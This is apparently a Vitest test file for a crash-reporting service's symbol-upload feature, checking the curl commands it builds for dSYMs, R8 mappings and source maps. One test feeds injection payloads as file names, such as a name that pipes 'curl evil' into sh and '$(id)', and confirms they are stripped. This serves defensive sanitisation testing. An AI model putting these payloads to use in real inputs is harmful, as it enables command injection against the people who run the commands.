import { expect, it } from "vitest";
import { appleUuid, commandsFor, plainName, platformOf, uploadGuides } from "./symbol-commands";

const ADDRESS = "https://tide.example.com";
const ID = "4c4c44dd55553144a1e29109d2cd8082";
const file = (kind: string, debugId: string, name: string) => ({
  kind,
  debugId,
  name,
  path: "",
  version: null as string | null,
});

it("uploads the dSYM of the image that a frame names", () => {
  const [command, ...rest] = commandsFor(file("debug_file", ID, "arm64"), {
    address: ADDRESS,
    form: "ios",
    image: "Acme",
  });
  expect(rest).toEqual([]);
  expect(command.code).toBe(
    'curl -H "Authorization: Bearer $UPLOAD_TOKEN" \\\n' +
      '  -F "files=@Acme.app.dSYM/Contents/Resources/DWARF/Acme" \\\n' +
      "  https://tide.example.com/api/symbols/upload",
  );
});

it.each([
  [
    "Dart",
    file("debug_file", ID, "arm64"),
    { form: "dart" as const, os: "android" },
    ["symbols/app.android-arm64.symbols"],
  ],
  ["Dart without an id", file("debug_file", "", "unknown"), {}, ["symbols/app.android-arm64.symbols"]],
  [
    "native",
    file("debug_file", "9f", "arm64"),
    { form: "native" as const, image: "libshop.so" },
    ["files=@libshop.so"],
  ],
  ["an unknown platform, 32 digits", file("debug_file", ID, "arm64"), {}, ["MyApp.app.dSYM", "app.android-arm64"]],
  ["an iOS project", file("debug_file", ID, "arm64"), { framework: "ios" }, ["MyApp.app.dSYM"]],
  ["R8", file("mapping", ID, ""), {}, [`proguard_uuid=${ID}`]],
  ["a script", file("source_map", "", "app.min.js"), {}, ["files=@dist/app.min.js.map"]],
  ["a release", { ...file("source_map", "", "app.js"), version: "1.2" }, {}, ['-F "version=1.2"']],
  ["a bundle", file("source_map", "", "index.android.bundle"), {}, ["files=@index.android.bundle.map"]],
])("%s", (_name, missing, context, want) => {
  const commands = commandsFor(missing, { address: ADDRESS, ...context });
  expect(commands.length).toBe(want.length);
  for (const [i, command] of commands.entries()) expect(command.code).toContain(want[i]);
});

// Names come from the senders of traces and are untrusted; the command is pasted into a shell.
it.each([
  'a";curl evil|sh;".js',
  "$(id).js",
  "`id`.js",
  "a\\.js",
  "a\n.js",
  "a;type=x.js",
  "..",
  "a/b.js",
  "!x",
  "a,b.js",
  "",
])("%j is not inserted into a command", (name) => {
  expect(plainName(name, "app.js")).toBe("app.js");
  const codes = [
    ...commandsFor(file("source_map", "", name), { address: ADDRESS }),
    ...commandsFor(file("debug_file", ID, name), { address: ADDRESS, form: "dart", os: name, image: name }),
    ...commandsFor(file("debug_file", ID, name), { address: ADDRESS, form: "ios", image: name }),
    ...commandsFor(file("mapping", name, name), { address: ADDRESS }),
  ].map((command) => command.code);
  for (const code of codes) expect(code.replaceAll(/\$(UPLOAD_TOKEN|UUID)/g, "")).not.toMatch(/[$`;|!,]|evil|\(id\)/);
});

it("keeps plain file names", () => {
  expect(plainName("Größe App+2.js", "x")).toBe("Größe App+2.js");
});

it("formats an id like Apple's tools", () => {
  expect(appleUuid(ID)).toBe("4C4C44DD-5555-3144-A1E2-9109D2CD8082");
  expect(appleUuid("9f2c")).toBe("9f2c");
});

it("lists every platform, the project's first", () => {
  for (const guide of uploadGuides(ADDRESS)) {
    expect(guide.code).toContain("Bearer $UPLOAD_TOKEN");
    expect(guide.cli).toMatch(/^TIDEWATCH_URL=https:\/\/tide\.example\.com TIDEWATCH_UPLOAD_TOKEN=\$UPLOAD_TOKEN \\\n/);
    expect(guide.code).toMatch(/https:\/\/tide\.example\.com\/api\/(symbols|sourcemaps)\/upload/);
  }
  expect(["ios", "flutter", "react", "opentelemetry"].map(platformOf)).toEqual(["ios", "flutter", "web", "web"]);
});
